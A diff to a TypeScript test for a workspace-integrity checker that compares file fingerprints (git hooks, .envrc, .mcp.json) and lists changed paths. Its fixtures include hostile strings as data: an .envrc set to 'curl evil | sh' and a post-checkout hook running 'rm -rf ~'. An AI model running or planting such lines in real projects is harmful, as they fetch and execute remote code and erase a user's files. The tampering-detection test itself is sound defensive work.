@@ -15,7 +15,7 @@ const accepted: Fingerprint = {
   '.git': gitDir('64769:100'),
   '.git/config': file('[core]\n'),
   '.git/hooks': {type: 'dir', mode: 0o755, size: 0},
-  '.git/hooks/pre-commit.sample': file('#!/bin/sh\n', 0o755),
+  '.git/hooks/pre-push': file('#!/bin/sh\n', 0o755),
   '.envrc': file('use nix\n'),
 }
 
@@ -26,12 +26,12 @@ describe('integrity: comparing fingerprints', () => {
 
   it('names each added, changed and removed path, sorted by path', () => {
     const now: Fingerprint = {...accepted, '.envrc': file('curl evil | sh\n'), '.mcp.json': file('{}')}
-    delete now['.git/hooks/pre-commit.sample']
+    delete now['.git/hooks/pre-push']
     now['.git/hooks/post-checkout'] = file('#!/bin/sh\nrm -rf ~\n', 0o755)
     expect(compareFingerprints(accepted, now).map((c) => `${c.change} ${c.path}`)).to.deep.equal([
       'changed .envrc',
       'added .git/hooks/post-checkout',
-      'removed .git/hooks/pre-commit.sample',
+      'removed .git/hooks/pre-push',
       'added .mcp.json',
     ])
   })
